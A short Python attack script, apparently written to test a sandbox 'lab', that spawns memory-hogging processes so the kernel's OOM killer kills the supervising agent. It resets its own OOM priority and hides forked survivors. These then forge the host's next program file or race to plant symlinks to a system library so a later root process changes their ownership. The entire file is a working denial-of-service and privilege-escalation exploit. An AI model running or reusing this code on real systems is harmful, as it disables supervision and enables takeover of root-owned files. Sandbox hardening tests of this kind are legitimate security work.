"""Have the kernel kill the lab's agent instead of the program, and stay.

A hundred small processes take the host's memory, each as dear to the kernel as the agent is. What
stays then forges the next program of this host ("forge"), or puts links where a later agent might
change the owner of what they lead to, as root ("root").
"""

import os
import socket
import subprocess
import sys
import time

from meet import hide

HOG = "import os, time\nheld = os.urandom(5 << 20)\ntime.sleep(20)"
RUN = "/run/socketlab/run"
ROOT_S = "/usr/lib/python3.11/types.py"

with socket.create_connection((sys.argv[1], 15000)) as connection:
    connection.recv(9)
with open("/proc/self/oom_score_adj", "w") as score:  # The lab wanted programs to die first.
    score.write("0")
agent = os.getppid()
for _ in range(3):
    if os.fork() == 0:
        hide()
        while os.path.exists(f"/proc/{agent}"):
            time.sleep(0.01)
        end = time.monotonic() + 60
        number = 0
        while time.monotonic() < end:
            number += 1
            try:
                if sys.argv[2] == "forge":
                    with open(f"{RUN}/innocent.py", "w") as file:
                        file.write("print('forged')\n")
                else:
                    os.symlink(ROOT_S, f"{RUN}/{os.getpid()}.{number % 200}")
            except OSError:
                time.sleep(0.001)
        os._exit(0)
nowhere = subprocess.DEVNULL
for _ in range(120):
    subprocess.Popen(["python3", "-S", "-E", "-c", HOG], stdout=nowhere, stderr=nowhere)
time.sleep(8)
